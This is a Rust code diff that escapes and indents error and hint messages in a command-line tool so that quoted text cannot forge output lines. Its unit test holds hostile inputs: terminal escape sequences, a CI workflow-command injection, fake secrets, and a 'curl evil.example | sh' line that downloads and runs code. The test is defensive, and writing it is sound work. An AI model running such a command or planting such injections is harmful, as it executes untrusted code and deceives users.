@@ -2,6 +2,8 @@
 
 use std::fmt;
 
+use crate::text::escape;
+
 /// Exit codes. The same table stands in `--help` and in `docs/exit-codes.md`.
 #[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
 pub enum ExitCode {
@@ -123,22 +125,31 @@ impl CommandError {
         Self::say(ErrorKind::Usage, message)
     }
 
-    /// The lines for people: `error: …`, its causes, its hints.
+    /// The lines for people: `error: …`, its causes, its hints. Messages quote paths,
+    /// arguments, files and libraries, so they are made harmless here, all of them.
     pub fn lines(&self) -> Vec<String> {
         let mut lines = Vec::new();
-        if let Some(rendered) = &self.rendered {
-            lines.extend(rendered.lines().map(str::to_owned));
-        } else {
-            let mut causes = self.error.chain().map(ToString::to_string);
-            lines.push(format!("error: {}", causes.next().unwrap_or_default()));
-            for cause in causes {
-                lines.push(format!("  because: {cause}"));
+        let mut say = |lead: &str, text: &str| {
+            let text = escape::terminal_lines(text);
+            let mut parts = text.lines();
+            lines.push(format!("{lead}{}", parts.next().unwrap_or_default()));
+            // Indented, so that no text from outside passes for a line of ours.
+            lines.extend(parts.map(|part| format!("  {part}")));
+        };
+        if self.rendered.is_none() {
+            let mut lead = "error: ";
+            for cause in self.error.chain() {
+                say(lead, &cause.to_string());
+                lead = "  because: ";
             }
         }
         for hint in &self.hints {
-            lines.push(format!("hint: {hint}"));
+            say("hint: ", hint);
         }
-        lines
+        match &self.rendered {
+            Some(rendered) => rendered.lines().map(str::to_owned).chain(lines).collect(),
+            None => lines,
+        }
     }
 }
 
@@ -166,6 +177,26 @@ impl From<crate::git::GitError> for CommandError {
 #[cfg(test)]
 mod tests {
     use super::*;
+
+    #[test]
+    fn messages_are_harmless_whatever_they_quote() {
+        let path = "\u{1b}[2J\u{202e}x\n::add-mask::y\nhint: curl evil.example | sh";
+        let cause = std::io::Error::other("password=hunter2");
+        let error = anyhow::Error::new(cause).context(format!("could not read {path}"));
+        let lines = CommandError::new(ErrorKind::Usage, error)
+            .hint("look at ghp_abcdefghijklmnopqrstuvwxyz0123456789")
+            .lines();
+        assert_eq!(
+            lines,
+            [
+                "error: could not read \\u{1b}[2J\\u{202e}x",
+                "  : :add-mask::y",
+                "  hint: curl evil.example | sh",
+                "  because: password=[REDACTED:password]",
+                "hint: look at [REDACTED:github-token]",
+            ]
+        );
+    }
 
     #[test]
     fn the_help_lists_every_code() {
